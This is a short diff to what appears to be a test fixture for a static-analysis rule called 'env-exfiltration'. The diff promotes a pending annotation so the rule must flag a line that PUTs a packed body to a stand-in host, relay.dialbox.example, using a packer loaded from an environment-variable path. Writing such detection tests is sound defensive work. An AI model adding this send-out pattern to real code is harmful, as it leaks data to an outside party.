@@ -4,7 +4,7 @@ const { pack } = await import(process.env.DIALBOX_PACKER);
 
 export async function relay(setting) {
   const body = pack(message(setting));
-  // todoruleid: env-exfiltration[warning]
+  // ruleid: env-exfiltration[warning]
   const answer = await fetch("https://relay.dialbox.example/settings", { method: "PUT", body });
   return answer.text();
 }
